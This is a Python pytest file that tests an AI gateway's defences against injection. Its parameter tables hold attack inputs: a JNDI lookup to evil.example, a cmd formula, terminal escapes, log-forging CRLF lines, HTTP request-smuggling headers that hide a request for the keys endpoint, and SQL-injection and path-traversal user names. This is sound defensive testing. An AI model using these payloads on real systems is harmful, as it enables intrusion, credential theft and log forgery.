"""Text that tries to become a header, a line of the log, a command of a terminal, or somebody else."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from tests.attacks.conftest import CANARY, House, named, raw

TEXTS = {
    "a line of its own": 'x\r\n{"event": "request", "status": 200, "forged": true}',
    "a line feed": "x\nforged",
    "colours": "\x1b[31mred\x1b[0m",
    "a title of the window": "\x1b]0;owned\x07",
    "separators of lines": "a\u2028b\u2029c\x85d",
    "from right to left": "\u202egnp.exe",
    "formats": "%s%n%(x)s{0}{x.__class__}",
    "a lookup": "${jndi:ldap://evil.example/a}",
    "a template": "{{7*7}}<%= 7*7 %>",
    "a script": "<script>alert(1)</script>",
    "a NUL": "x\0y",
    "a formula": "=cmd|'/c calc'!A1",
}


def lines(keyed: House) -> list[dict[str, Any]]:
    """The whole log: each line must be JSON of its own, in printable ASCII."""
    found = []
    for line in keyed.gateway.log.read_bytes().splitlines():
        assert all(32 <= byte < 127 for byte in line), line
        found.append(json.loads(line))
    return found


@pytest.mark.parametrize("text", **named(TEXTS))
def test_texts_stay_texts(keyed: House, text: str) -> None:
    asked = f"texts-{time.monotonic_ns()}"
    with keyed.client("ann", **{"x-request-id": asked}) as client:
        answers = [
            client.post("/generate", json={"prompt": f"{CANARY} {text}", "model": text}),
            client.post("/v1/images/generations", json={"prompt": "x", "sampler": text}),
            client.post("/v1/images/generations", json={"prompt": "x", text: CANARY, "steps": 1}),
            client.get("/jobs", params={"q": text, "tag": text[:200]}),
        ]
    assert all(answer.status_code in (200, 400, 404) for answer in answers)
    for answer in answers:
        assert "set-cookie" not in answer.headers
        assert "forged" not in str(answer.headers)
    deadline = time.monotonic() + 5
    told: list[dict[str, Any]] = []
    while len(told) < 4 and time.monotonic() < deadline:
        time.sleep(0.05)
        told = [line for line in lines(keyed) if line.get("request_id") == asked]
    assert [line["event"] for line in told] == ["request"] * 4
    assert not any("forged" in line for line in lines(keyed))


IDS = {
    "a line": "a b",
    "an address": "http://evil.example/",
    "an escape": "\x1b[31m",
    "empty": "",
    "129 letters": "a" * 129,
    "60,000 letters": "a" * 60_000,
    "quotes": '"><script>',
    "beyond ASCII": "\xe9\xe8",
    "a path": "../../x",
}


@pytest.mark.parametrize("given", **named(IDS))
def test_odd_request_ids_are_replaced(keyed: House, given: str) -> None:
    head = b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Request-Id: "
    status, text = raw(keyed.gateway, head + given.encode("latin-1") + b"\r\n\r\n")
    assert status in (200, 400)
    if status == 200:
        assert "x-request-id: req_" in text


SMUGGLED = {
    "two lengths": b"Content-Length: 5\r\nContent-Length: 30\r\n",
    "a length below nothing": b"Content-Length: -5\r\n",
    "a length in hexadecimal": b"Content-Length: 0x10\r\n",
    "a length with a plus": b"Content-Length: +5\r\n",
    "an unknown coding": b"Transfer-Encoding: xchunked\r\n",
    "chunks that are none": b"Transfer-Encoding: chunked\r\n",
    "a header with a NUL": b"X: a\0b\r\n",
    "a header without a name": b": x\r\n",
}


@pytest.mark.parametrize("head", **named(SMUGGLED))
def test_no_second_request_hides_in_a_first(keyed: House, head: bytes) -> None:
    hidden = b"GET /keys HTTP/1.1\r\nHost: localhost\r\n\r\n"
    login = b"Authorization: Bearer " + keyed.keys["chief"].encode() + b"\r\n"
    status, text = raw(
        keyed.gateway,
        b"POST /estimate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        + head + login + b"\r\n" + hidden,
        timeout=3,
    )  # fmt: skip
    assert status in (0, 400, 401, 501), text
    assert '"keys"' not in text


USERS = {
    "another account": "bob",
    "a slash": "../bob",
    "the admin": "chief",
    "the one at home": "local",
    "a line": "bob\tx",
    "very long": "b" * 500,
    "a quote": "bob' OR '1'='1",
}


@pytest.mark.parametrize("user", **named(USERS))
def test_a_key_can_only_name_users_of_its_own(keyed: House, user: str) -> None:
    with keyed.client("bob") as client:
        job = client.post("/jobs", json={"prompt": CANARY}).json()
    with keyed.client("ann", **{"x-openwebui-user-id": user}) as client:
        assert client.get(f"/jobs/{job['id']}").status_code == 404
        mine = client.post("/jobs", json={"prompt": "x"}).json()
    assert mine["owner"] in ("ann", f"ann/{user}")
